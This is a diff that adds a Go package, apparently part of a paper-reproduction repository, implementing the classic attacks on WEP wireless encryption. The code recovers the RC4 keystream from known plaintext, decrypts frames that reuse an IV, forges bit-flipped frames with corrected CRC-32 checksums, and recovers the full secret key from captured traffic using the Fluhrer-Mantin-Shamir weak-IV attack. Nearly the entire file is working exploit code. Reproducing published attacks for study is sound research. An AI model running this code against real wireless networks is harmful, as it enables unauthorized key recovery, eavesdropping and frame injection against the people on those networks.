@@ -1,0 +1,244 @@
+// Package wepattack implements the classic attacks on WEP-style link
+// protection that the paper cites when it calls the deployed wireless
+// security protocols "insufficient ... easily broken or compromised"
+// (Section 2, refs [21] Walker, [22] Borisov-Goldberg-Wagner, [23]
+// Arbaugh; the FMS key-schedule attack underlies the GSM/WEP cloning
+// results of [25]):
+//
+//   - keystream reuse: two frames under one IV decrypt each other;
+//   - ICV linearity: CRC-32 is affine, so an attacker flips plaintext
+//     bits and fixes the checksum without knowing the key;
+//   - FMS: the RC4 key schedule leaks secret key bytes under weak IVs of
+//     the form (b+3, 255, x), allowing full key recovery from traffic.
+package wepattack
+
+import (
+	"errors"
+	"fmt"
+	"hash/crc32"
+	"sort"
+
+	"repro/internal/crypto/bitutil"
+	"repro/internal/wep"
+)
+
+// RecoverKeystream derives the RC4 keystream prefix of a frame from known
+// plaintext — the first step of every keystream-reuse attack. The
+// recovered prefix covers the known plaintext plus, when the full payload
+// is known, the 4 ICV bytes.
+func RecoverKeystream(frame, knownPlaintext []byte) ([]byte, error) {
+	ct, err := wep.Ciphertext(frame)
+	if err != nil {
+		return nil, err
+	}
+	if len(knownPlaintext) > len(ct)-wep.ICVLen {
+		return nil, errors.New("wepattack: known plaintext longer than frame payload")
+	}
+	clear := append([]byte{}, knownPlaintext...)
+	if len(knownPlaintext) == len(ct)-wep.ICVLen {
+		// Full payload known: extend through the ICV.
+		icv := crc32.ChecksumIEEE(knownPlaintext)
+		clear = append(clear, byte(icv), byte(icv>>8), byte(icv>>16), byte(icv>>24))
+	}
+	ks := make([]byte, len(clear))
+	bitutil.XORBytes(ks, ct, clear)
+	return ks, nil
+}
+
+// DecryptWithKeystream opens another frame protected under the same IV
+// (and therefore the same keystream), up to the keystream length.
+func DecryptWithKeystream(frame, keystream []byte) ([]byte, error) {
+	ct, err := wep.Ciphertext(frame)
+	if err != nil {
+		return nil, err
+	}
+	n := len(ct)
+	if len(keystream) < n {
+		n = len(keystream)
+	}
+	out := make([]byte, n)
+	bitutil.XORBytes(out, ct[:n], keystream[:n])
+	if n == len(ct) {
+		out = out[:n-wep.ICVLen] // the trailing ICV bytes were covered; drop them
+	}
+	return out, nil
+}
+
+// ForgeBitFlip returns a forged frame whose decrypted payload is the
+// original XOR delta, with the ICV fixed up via CRC-32 linearity — no key
+// material required. delta must not exceed the frame's payload.
+func ForgeBitFlip(frame, delta []byte) ([]byte, error) {
+	ct, err := wep.Ciphertext(frame)
+	if err != nil {
+		return nil, err
+	}
+	payloadLen := len(ct) - wep.ICVLen
+	if payloadLen < 0 {
+		return nil, wep.ErrTooShort
+	}
+	if len(delta) > payloadLen {
+		return nil, fmt.Errorf("wepattack: delta %d bytes exceeds payload %d", len(delta), payloadLen)
+	}
+	full := make([]byte, payloadLen)
+	copy(full, delta)
+	// CRC-32 is affine: crc(p^d) = crc(p) ^ crc(d) ^ crc(0^len).
+	icvDelta := crc32.ChecksumIEEE(full) ^ crc32.ChecksumIEEE(make([]byte, payloadLen))
+
+	forged := append([]byte{}, frame...)
+	body := forged[wep.IVLen+1:]
+	for i, d := range full {
+		body[i] ^= d
+	}
+	body[payloadLen] ^= byte(icvDelta)
+	body[payloadLen+1] ^= byte(icvDelta >> 8)
+	body[payloadLen+2] ^= byte(icvDelta >> 16)
+	body[payloadLen+3] ^= byte(icvDelta >> 24)
+	return forged, nil
+}
+
+// FMSResult reports a key-recovery attempt.
+type FMSResult struct {
+	Key []byte
+	// Votes[b][v] counts how often candidate v was suggested for secret
+	// byte b.
+	Votes [][256]int
+	// WeakFrames counts frames that satisfied the resolved condition for
+	// at least one byte position.
+	WeakFrames int
+}
+
+// FMSRecoverKey mounts the Fluhrer-Mantin-Shamir attack. frames are
+// captured WEP frames; firstPlainByte is the known first payload byte
+// (0xAA for the SNAP header of real 802.11 traffic); keyLen is the secret
+// length to recover (5 or 13); verify tests a candidate key (an attacker
+// verifies by decrypting a captured frame).
+//
+// Candidate bytes are ranked by votes; the search tries the few top
+// candidates per position, so occasional vote upsets do not defeat it.
+func FMSRecoverKey(frames [][]byte, firstPlainByte byte, keyLen int, verify func(key []byte) bool) (*FMSResult, error) {
+	if keyLen != wep.Key40Len && keyLen != wep.Key104Len {
+		return nil, fmt.Errorf("wepattack: unsupported key length %d", keyLen)
+	}
+	if len(frames) == 0 {
+		return nil, errors.New("wepattack: no frames captured")
+	}
+	if verify == nil {
+		return nil, errors.New("wepattack: verification callback required")
+	}
+	res := &FMSResult{Votes: make([][256]int, keyLen)}
+	known := make([]byte, 0, 3+keyLen)
+
+	// First keystream byte per frame: z = ct[0] ^ firstPlainByte.
+	type capture struct {
+		iv [3]byte
+		z  byte
+	}
+	caps := make([]capture, 0, len(frames))
+	for _, f := range frames {
+		iv, err := wep.FrameIV(f)
+		if err != nil {
+			continue
+		}
+		ct, err := wep.Ciphertext(f)
+		if err != nil || len(ct) == 0 {
+			continue
+		}
+		caps = append(caps, capture{iv: iv, z: ct[0] ^ firstPlainByte})
+	}
+
+	recovered := make([]byte, 0, keyLen)
+	for b := 0; b < keyLen; b++ {
+		weak := 0
+		for _, c := range caps {
+			known = known[:0]
+			known = append(known, c.iv[0], c.iv[1], c.iv[2])
+			known = append(known, recovered...)
+			cand, ok := fmsCandidate(known, b, c.z)
+			if ok {
+				res.Votes[b][cand]++
+				weak++
+			}
+		}
+		res.WeakFrames += weak
+		// Provisionally take the top candidate; the final search below
+		// revisits near-ties.
+		recovered = append(recovered, byte(topCandidates(res.Votes[b], 1)[0]))
+	}
+
+	// Depth-first search over the top candidates per byte, verifying each
+	// complete key.
+	const branch = 3
+	options := make([][]int, keyLen)
+	for b := 0; b < keyLen; b++ {
+		options[b] = topCandidates(res.Votes[b], branch)
+	}
+	key := make([]byte, keyLen)
+	var dfs func(pos int) bool
+	dfs = func(pos int) bool {
+		if pos == keyLen {
+			return verify(key)
+		}
+		for _, cand := range options[pos] {
+			key[pos] = byte(cand)
+			if dfs(pos + 1) {
+				return true
+			}
+		}
+		return false
+	}
+	if !dfs(0) {
+		return res, errors.New("wepattack: no candidate key verified")
+	}
+	res.Key = append([]byte{}, key...)
+	return res, nil
+}
+
+// fmsCandidate runs the partial key schedule for position b (needing
+// known bytes IV||secret[0:b]) and, if the state is "resolved"
+// (S[1] < b+3 and S[1]+S[S[1]] == b+3), returns the implied candidate for
+// secret byte b from the observed first keystream byte z.
+func fmsCandidate(known []byte, b int, z byte) (int, bool) {
+	t := b + 3 // KSA steps with fully known key bytes
+	var s [256]int
+	for i := range s {
+		s[i] = i
+	}
+	j := 0
+	for i := 0; i < t; i++ {
+		j = (j + s[i] + int(known[i])) & 0xff
+		s[i], s[j] = s[j], s[i]
+	}
+	if s[1] >= t || (s[1]+s[s[1]])&0xff != t {
+		return 0, false
+	}
+	// Invert the state to locate z.
+	zi := -1
+	for idx, v := range s {
+		if v == int(z) {
+			zi = idx
+			break
+		}
+	}
+	if zi < 0 {
+		return 0, false
+	}
+	return (zi - j - s[t]) & 0xff, true
+}
+
+// topCandidates returns the k highest-voted values, ties broken by value.
+func topCandidates(votes [256]int, k int) []int {
+	idx := make([]int, 256)
+	for i := range idx {
+		idx[i] = i
+	}
+	sort.Slice(idx, func(a, b int) bool {
+		if votes[idx[a]] != votes[idx[b]] {
+			return votes[idx[a]] > votes[idx[b]]
+		}
+		return idx[a] < idx[b]
+	})
+	if k > len(idx) {
+		k = len(idx)
+	}
+	return idx[:k]
+}
